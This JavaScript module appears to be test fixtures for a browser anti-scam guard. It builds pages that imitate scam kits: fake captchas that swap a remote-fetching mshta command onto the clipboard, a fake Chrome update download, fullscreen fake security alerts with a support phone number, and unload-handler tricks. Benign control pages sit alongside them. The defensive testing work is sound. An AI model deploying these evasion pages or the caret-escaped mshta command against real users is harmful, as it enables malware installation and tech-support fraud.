'use strict';
/* The pages of issue 21: ten ways past the holds of issue 15, each written
 * as a kit would, and the legitimate pages that must keep working. Every
 * page reports what it got to /__report on its own host (sendBeacon), as
 * in guard-pages.js. */
const { KIT_JS, REPORT_JS, CMD, LOCKER_TEXT } = require('./guard-pages.js');

// A cmd.exe command with caret escapes: the shell reads m^s^h^t^a as mshta.
const CARET_CMD = 'm^s^h^t^a https://verify-check.example.net/v.hta';

const captchaBody = (extra, onClick) => `<!doctype html><html lang="en"><head><title>Just a moment...</title></head><body>
  <h1>Checking your connection</h1>
  <p>One more step before you continue to the site.</p>
  <label><input type="checkbox" id="robot"> I am not a robot</label>
  <div id="steps"></div>
  ${extra}
  <script>${REPORT_JS}
    ${KIT_JS}
    document.getElementById('robot').addEventListener('click', () => {
      // the kit's command and steps come from its server (guard-pages.js, KIT_JS)
      const cmd = kit.cmd;
      document.getElementById('steps').textContent = 'Verification steps: ' + kit.steps;
      ${onClick}
      report('tried');
    });
  </script></body></html>`;

// 1. Selection swap: the person presses Ctrl+C; the page's copy handler
// moves the selection onto an off-screen command and lets the browser copy
// it (no setData, no cancel).
const SWAP_PAGE = captchaBody('<pre id="hidden" style="position:absolute;left:-9999px;top:0">x</pre>', `
      document.getElementById('hidden').textContent = cmd;
      document.addEventListener('copy', () => {
        const r = document.createRange(); r.selectNodeContents(document.getElementById('hidden'));
        getSelection().removeAllRanges(); getSelection().addRange(r);
        report('handler');
      }, { once: true });
      const r = document.createRange(); r.selectNodeContents(document.querySelector('h1')); getSelection().removeAllRanges(); getSelection().addRange(r);`);

// 2. Cross-realm calls: setData and preventDefault taken from a same-origin
// frame (a page of its own, so it has its own copy of the hooks) and run
// against the top window's copy event.
const REALM_PAGE = captchaBody('<iframe id="helper" src="/blank.html" style="display:none"></iframe>', `
      const f = document.getElementById('helper').contentWindow;
      document.addEventListener('copy', (e) => {
        f.DataTransfer.prototype.setData.call(e.clipboardData, 'text/plain', cmd);
        f.Event.prototype.preventDefault.call(e);
        report('handler');
      }, { once: true });
      const r = document.createRange(); r.selectNodeContents(document.querySelector('h1')); getSelection().removeAllRanges(); getSelection().addRange(r);`);

// 3. Replay overwrite, on plain HTTP (no navigator.clipboard): an ordinary
// "copy link" button runs the copy command; the page ignores the stand-in
// event and writes the command on the browser's own (trusted) event.
const SHARE_LINK = 'https://notes.example.org/s/7f3k2';
const REPLAY_PAGE = `<!doctype html><html lang="en"><head><title>Shared note - Notes</title></head><body>
  <h1>Shopping list</h1><p>Milk, eggs, bread. Share this note with the link below.</p>
  <input id="link" value="${SHARE_LINK}" size="40"> <button id="copy">Copy link</button>
  <script>${REPORT_JS}
    // The command comes from the server at run time (nothing to read in the page).
    let cmd = ''; fetch('/c.txt').then((r) => r.text()).then((t) => { cmd = t; });
    document.addEventListener('copy', (e) => {
      if (!e.isTrusted) { report('stand-in'); return; }
      e.clipboardData.setData('text/plain', cmd); e.preventDefault(); report('overwrote');
    }, true);
    document.getElementById('copy').addEventListener('click', () => {
      document.getElementById('link').select();
      report(document.execCommand('copy') ? 'exec-true' : 'exec-false');
    });
  </script></body></html>`;

// 4. Stalled snapshot: a same-origin script that never answers, a data
// block (type="text/plain") that would never answer either, and a script
// that answers 404 with an error page; then a caret-escaped command.
const STALL_PAGE = captchaBody(`<script async src="/stall.js"></script><script type="text/plain" src="/stall.txt"></script>
  <script async src="/missing.js"></script>`, `
      navigator['clip' + 'board']['write' + 'Text'](fetched).then(() => report('resolved'), () => report('refused'));`).replace('<script>', `<script>
    // The command comes from the server at run time: nothing in the page
    // gives it away before the write.
    let fetched = ''; fetch('/caret.txt').then((r) => r.text()).then((t) => { fetched = t; });`);

// 5. Snapshot bomb: every field within its limit, but '<' is six bytes on
// Chromium's wire: 2 MiB of it in an attribute, 1 MiB in the text, eight
// scripts of it; more than the host's 16 MiB frame once escaped.
const BOMB_SCRIPTS = 8;
const bombPage = () => captchaBody(`<div data-x="${'<'.repeat(2 << 20)}"></div><pre>${'&lt;'.repeat(1 << 20)}</pre>
  ${Array.from({ length: BOMB_SCRIPTS }, (_, i) => `<script async src="/bomb${i}.js"></script>`).join('')}`, `
      navigator.clipboard.writeText(cmd).then(() => report('resolved'), () => report('refused'));`);
const BOMB_SCRIPT = '/*' + '<'.repeat(520 * 1024) + '*/';

// 6. A download outliving its page: a fake update starts its program and
// goes at once to a clean page.
// A script of its own that never answers blocks the parser after the
// page's own script, so the page never reaches DOMContentLoaded (where its
// first snapshot would go, issue 24), and the download's hold waits for
// that script (1 s at most). Leaving cancels that script in Chromium, so
// under load the page may be judged with its download and blocked before
// /thanks loads: the test accepts either ending, never the program landing.
const OUTLIVE_PAGE = `<!doctype html><html lang="en"><head><title>Update Chrome</title></head><body>
  <h1>Google Chrome</h1><h2>An update is required</h2>
  <p>Your version of Chrome is out of date and can no longer display this page. Install the latest update to continue.</p>
  <a id="dl" href="/slow/ChromeUpdate.exe" download>Update Chrome</a>
  <script>${REPORT_JS}
    // Away at once, in a task of its own: Firefox may drop a navigation
    // made in the same task as the download's; made again if still here.
    setTimeout(() => { document.getElementById('dl').click(); report('tried'); setTimeout(() => { location.href = '/thanks'; }, 0); setTimeout(() => { location.href = '/thanks'; }, 300); }, 0);
  </script><script src="/stall.js"></script></body></html>`;
const THANKS_PAGE = `<!doctype html><html lang="en"><head><title>Thank you</title></head><body><h1>Thank you</h1>
  <p>Your browser is up to date. Enjoy browsing.</p><script>${REPORT_JS}</script></body></html>`;

// 7. A fake alert inside a cross-origin frame that may go full screen, on
// an outer page with nothing on it.
const XFS_TOP = (inner) => `<!doctype html><html lang="en"><head><title>Player</title></head><body style="margin:0">
  <iframe id="f" src="${inner}" allowfullscreen allow="fullscreen; keyboard-map" style="width:100vw;height:100vh;border:0"></iframe>
  <script>${REPORT_JS}
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
  </script></body></html>`;
const XFS_INNER = `<!doctype html><html lang="en"><body>${LOCKER_TEXT}<button id="ok">OK</button>
  <script>${REPORT_JS}
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
    document.getElementById('ok').addEventListener('click', () => {
      document.documentElement.requestFullscreen().then(() => report('fullscreen-resolved'), () => report('fullscreen-refused'));
      if (navigator.keyboard) navigator.keyboard.lock().then(() => report('keyboard-lock'), () => {});
      report('tried');
    });
  </script></body></html>`;

// 8. A clean-looking game: full screen and keyboard lock on a click, then
// the alert drawn on its canvas (no DOM change at all).
const drawAlert = `(ctx, w, h) => {
      ctx.fillStyle = '#0a3d91'; ctx.fillRect(0, 0, w, h); ctx.fillStyle = '#fff';
      ctx.font = 'bold 44px sans-serif'; ctx.fillText('Windows Defender Security Warning', 40, 90);
      ctx.font = '32px sans-serif'; ctx.fillText('Your computer has been locked. Trojan spyware detected.', 40, 160);
      ctx.fillText('Call Microsoft Support now: +1-855-555-0148', 40, 220);
      ctx.fillText('Do not close this page or restart your computer.', 40, 280);
    }`;
const CANVAS_GAME = `<!doctype html><html lang="en"><head><title>Star puzzle</title></head><body style="margin:0">
  <canvas id="c" width="1280" height="800" style="display:block;width:100vw;height:100vh;background:#123"></canvas>
  <button id="play" style="position:fixed;left:20px;top:20px">Play</button>
  <script>${REPORT_JS}
    const c = document.getElementById('c'); const ctx = c.getContext('2d');
    ctx.fillStyle = '#123'; ctx.fillRect(0, 0, c.width, c.height); ctx.fillStyle = '#ff0'; ctx.font = '40px sans-serif'; ctx.fillText('Star puzzle: press Play', 40, 80);
    document.addEventListener('fullscreenchange', () => report(document.fullscreenElement ? 'fullscreen' : 'fullscreen-left'));
    document.getElementById('play').addEventListener('click', () => {
      document.documentElement.requestFullscreen().then(() => {
        report('fullscreen-resolved');
        if (navigator.keyboard) navigator.keyboard.lock().then(() => report('keyboard-lock'), () => report('keyboard-lock-refused'));
        setTimeout(() => { (${drawAlert})(ctx, c.width, c.height); report('drawn'); }, 1500);
      }, () => report('fullscreen-refused'));
    });
  </script></body></html>`;

// 8, the control: the same kind of game, full screen and keyboard lock on
// a click, then only its own play drawn (score, level, lives).
const CLEAN_GAME = `<!doctype html><html lang="en"><head><title>Tile run</title></head><body style="margin:0">
  <canvas id="c" width="1280" height="800" style="display:block;width:100vw;height:100vh;background:#123"></canvas>
  <button id="play" style="position:fixed;left:20px;top:20px">Play</button>
  <script>${REPORT_JS}
    const c = document.getElementById('c'); const ctx = c.getContext('2d');
    ctx.fillStyle = '#123'; ctx.fillRect(0, 0, c.width, c.height); ctx.fillStyle = '#ff0'; ctx.font = '40px sans-serif'; ctx.fillText('Tile run: press Play', 40, 80);
    document.addEventListener('fullscreenchange', () => report(document.fullscreenElement ? 'fullscreen' : 'fullscreen-left'));
    document.getElementById('play').addEventListener('click', () => {
      document.documentElement.requestFullscreen().then(() => {
        report('fullscreen-resolved');
        if (navigator.keyboard) navigator.keyboard.lock().then(() => report('keyboard-lock'), () => report('keyboard-lock-refused'));
        setTimeout(() => {
          ctx.fillStyle = '#123'; ctx.fillRect(0, 0, c.width, c.height);
          for (let i = 0; i < 12; i++) { ctx.fillStyle = ['#e44', '#4e4', '#44e', '#ee4'][i % 4]; ctx.fillRect(80 + i * 90, 400 + (i % 3) * 60, 70, 70); }
          ctx.fillStyle = '#fff'; ctx.font = 'bold 40px sans-serif'; ctx.fillText('SCORE 12450', 40, 90); ctx.fillText('LEVEL 7', 520, 90); ctx.fillText('LIVES 3', 900, 90);
          ctx.font = '28px sans-serif'; ctx.fillText('Use the arrow keys to move. Press Esc to pause.', 40, 740);
          report('drawn');
        }, 1500);
      }, () => report('fullscreen-refused'));
    });
  </script></body></html>`;

// 8b. An image-only fake alert: the page is one picture (drawn here and
// turned into an <img>, so the served HTML holds no text of it).
const IMAGE_ALERT = `<!doctype html><html lang="en"><head><title>Security</title></head><body style="margin:0">
  <img id="i" alt="" style="display:block;width:100vw;height:100vh">
  <script>${REPORT_JS}
    const c = document.createElement('canvas'); c.width = 1280; c.height = 800;
    (${drawAlert})(c.getContext('2d'), c.width, c.height);
    document.getElementById('i').src = c.toDataURL('image/png');
    report('drawn');
  </script></body></html>`;

// 9. Leaving is not clean: handlers a kit adds to run on its way out, by
// every route (a bare addEventListener, window.onunload, another realm's
// addEventListener on this window), and a pop-up it opened on the click.
const LEAVE_PAGE = `<!doctype html><html lang="en"><head><title>Holiday photos</title></head><body>
  <h1>Holiday photos</h1><p>Our trip to the coast, summer 2026. Click to view the slideshow.</p>
  <iframe id="helper" src="/blank.html" style="display:none"></iframe>
  <button id="prep">Open the guestbook</button> <button id="view">View slideshow</button>
  <script>${REPORT_JS}
    addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = ''; report('beforeunload-ran'); });
    window.addEventListener('pagehide', () => report('pagehide-ran'));
    window.onunload = () => report('unload-ran');
    window.addEventListener('load', () => {
      const f = document.getElementById('helper').contentWindow;
      f.EventTarget.prototype.addEventListener.call(window, 'unload', () => report('realm-unload-ran'));
      f.EventTarget.prototype.addEventListener.call(window, 'beforeunload', (e) => { e.preventDefault(); e.returnValue = ''; report('realm-beforeunload-ran'); });
      report('armed');
    });
    document.getElementById('prep').addEventListener('click', () => {
      const p = window.open('/popup.html', '_blank', 'width=400,height=300');
      report(p ? 'popup-opened' : 'popup-refused');
    });
    document.getElementById('view').addEventListener('click', () => {
      document.body.insertAdjacentHTML('afterbegin', ${JSON.stringify(LOCKER_TEXT)});
      document.documentElement.requestFullscreen().then(() => report('fullscreen'), () => {});
      report('tried');
    });
  </script></body></html>`;
const POPUP_PAGE = `<!doctype html><html lang="en"><head><title>Support</title></head><body><h1>Support chat</h1>
  <script>${REPORT_JS.replace("report('ready')", "report('popup-ready')")}</script></body></html>`;

// 10b. Hooks that do not reveal themselves: toString from a realm with its
// own copy of the hooks, and from this one, on the other's functions.
const TOSTRING_PAGE = `<!doctype html><html lang="en"><head><title>Recipe notes</title></head><body>
  <h1>Recipe notes</h1><p>Pancakes: flour, milk, eggs.</p><iframe id="f" src="/blank.html" style="display:none"></iframe>
  <script>${REPORT_JS}
    window.addEventListener('load', () => {
      const f = document.getElementById('f').contentWindow;
      const native = /^function [\\w$]*\\(\\) \\{\\s*\\[native code\\]\\s*\\}$/;
      const checks = [
        ['writeText', navigator.clipboard && Clipboard.prototype.writeText], ['requestFullscreen', Element.prototype.requestFullscreen],
        ['execCommand', Document.prototype.execCommand], ['addEventListener', EventTarget.prototype.addEventListener],
        ['AudioContext', window.AudioContext], ['frameWriteText', f.Clipboard && f.Clipboard.prototype.writeText],
        ['frameRequestFullscreen', f.Element.prototype.requestFullscreen],
      ];
      let bad = 0;
      for (const [name, fn] of checks) {
        if (!fn) continue;
        for (const [realm, ts] of [['own', Function.prototype.toString], ['frame', f.Function.prototype.toString]]) {
          const s = ts.call(fn);
          if (!native.test(s.replace(/\\n/g, ' '))) { bad++; report('not-native-' + realm + '-' + name + ':' + s.slice(0, 60)); }
        }
      }
      // a wrapped constructor is the one its instances name
      const made = [['MutationObserver', () => new MutationObserver(() => {})], ['AudioContext', () => new AudioContext()]];
      for (const [name, make] of made) {
        if (typeof window[name] !== 'function') continue;
        let o = null;
        try { o = make(); } catch (e) { bad++; report('constructor-' + name + '-threw'); continue; }
        if (o.constructor !== window[name] || window[name].prototype.constructor !== window[name]) { bad++; report('constructor-' + name); }
        if (name === 'AudioContext') { try { o.close(); } catch (e) {} }
      }
      report('checked-' + bad);
    });
  </script></body></html>`;

// 10a. A page that is warned about (a camera lure only): its later DOM
// changes must not turn the warning into a block because of our banner.
const CAMERA_PAGE = `<!doctype html><html lang="en"><head><title>Age check</title></head><body>
  <h1>Age verification</h1><p>To watch this video, allow the camera so we can check your age.</p>
  <button id="go">Allow camera</button><div id="more"></div>
  <script>${REPORT_JS}
    document.getElementById('go').addEventListener('click', () => {
      navigator.mediaDevices.getUserMedia({ video: true }).then(() => report('camera-granted'), (e) => report('camera-refused-' + e.name));
      report('tried');
    });
  </script></body></html>`;

// getDisplayMedia: a "support session" page asking to share the screen.
const SHARE_PAGE = `<!doctype html><html lang="en"><head><title>Remote support</title></head><body>
  <h1>Remote support session</h1><p>Press the button to share your screen with the technician.</p>
  <button id="share">Start sharing</button>
  <script>${REPORT_JS}
    document.getElementById('share').addEventListener('click', () => {
      navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => report('dm-resolved'), (e) => report('dm-refused-' + e.name));
      report('tried');
    });
  </script></body></html>`;

// --- controls: legitimate pages that must keep working --------------------
// The person's own Ctrl+C on an ordinary article; and a docs page whose
// copy handler adds where the text came from (a common courtesy).
const ARTICLE_LINE = 'The river path reopens next week after repairs.';
const ARTICLE_PAGE = `<!doctype html><html lang="en"><head><title>River path reopens - City Herald</title></head><body>
  <h1>City Herald</h1><p id="line">${ARTICLE_LINE}</p><p>Council approved the repairs in May.</p>
  <script>${REPORT_JS}</script></body></html>`;
const ATTRIBUTION = '\n\nSource: Quill docs';
const ATTRIB_PAGE = `<!doctype html><html lang="en"><head><title>Configuration - Quill docs</title></head><body>
  <h1>Configuration</h1><p id="line">Set the output folder with the out key.</p>
  <script>${REPORT_JS}
    document.addEventListener('copy', (e) => {
      e.clipboardData.setData('text/plain', getSelection().toString() + ${JSON.stringify(ATTRIBUTION)}); e.preventDefault(); report('handler');
    });
  </script></body></html>`;
// A media player's and an archiver's official download pages.
const installerPage = (name, file) => `<!doctype html><html lang="en"><head><title>Download ${name}</title></head><body>
  <nav><a href="/">${name}</a> · <a href="/features">Features</a> · <a href="/news">News</a> · <a href="/support">Support</a></nav>
  <h1>Download ${name}</h1>
  <p>${name} is free and open-source software. Version 3.0.21 for Windows 64-bit, released 2026-10-02.
  Checksums and signatures are on the release notes page. Older versions are in the archive.</p>
  <p><a id="dl" href="/files/${file}" download>Download ${name} 3.0.21 (64-bit)</a></p>
  <h2>Other systems</h2><p>macOS, Linux and source code downloads are listed on the other platforms page.</p>
  <footer>© 2026 ${name} project. Privacy · Legal</footer>
  <script>${REPORT_JS}</script></body></html>`;
// A video player page whose full-screen button works.
const VIDEO_PAGE = `<!doctype html><html lang="en"><head><title>Harbour at dawn - Video</title></head><body>
  <h1>Harbour at dawn</h1><video id="v" width="640" height="360" controls></video><button id="fs">Full screen</button>
  <p>A short film of the fishing boats leaving the harbour.</p>
  <script>${REPORT_JS}
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
    document.getElementById('fs').addEventListener('click', () => {
      document.getElementById('v').requestFullscreen().then(() => report('fullscreen-resolved'), () => report('fullscreen-refused'));
    });
  </script></body></html>`;

// A page offering an archive and a document (the fail-closed test: no host).
const FILES_PAGE = `<!doctype html><html lang="en"><head><title>Downloads - Riverside Library</title></head><body>
  <h1>Riverside Library</h1><p>The tools and the annual report.</p>
  <a id="zip" href="/files/tools-2026.zip" download>Tools (zip)</a> <a id="pdf" href="/files/report-2026.pdf" download>Report (PDF)</a>
  <a id="maps" href="/files/maps-2026.zip" download>Maps (zip, made as it is sent)</a>
  <script>${REPORT_JS}</script></body></html>`;

const BLANK_PAGE = '<!doctype html><html><body></body></html>';

module.exports = { CMD, CARET_CMD, SHARE_LINK, SWAP_PAGE, REALM_PAGE, REPLAY_PAGE, STALL_PAGE, bombPage, BOMB_SCRIPTS, BOMB_SCRIPT, OUTLIVE_PAGE, THANKS_PAGE,
  XFS_TOP, XFS_INNER, CANVAS_GAME, CLEAN_GAME, IMAGE_ALERT, LEAVE_PAGE, POPUP_PAGE, TOSTRING_PAGE, CAMERA_PAGE, SHARE_PAGE, ARTICLE_LINE, ARTICLE_PAGE, ATTRIBUTION,
  ATTRIB_PAGE, installerPage, VIDEO_PAGE, FILES_PAGE, BLANK_PAGE };
